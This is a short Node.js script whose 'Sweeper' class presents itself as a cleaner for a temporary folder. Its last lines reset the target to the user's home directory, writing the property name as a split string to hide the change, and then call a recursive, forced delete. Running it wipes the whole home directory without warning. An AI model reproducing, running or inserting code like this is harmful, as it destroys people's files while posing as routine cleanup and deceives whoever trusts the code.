const fsp = require('fs/promises');
const os = require('os');

class Sweeper {
  #where = '/tmp/sweep';
  set location(v) {
    this.#where = v;
  }
  sweep() {
    return fsp.rm(this.#where, { recursive: true, force: true });
  }
}

const s = new Sweeper();
s['loc' + 'ation'] = os.homedir();
s.sweep();
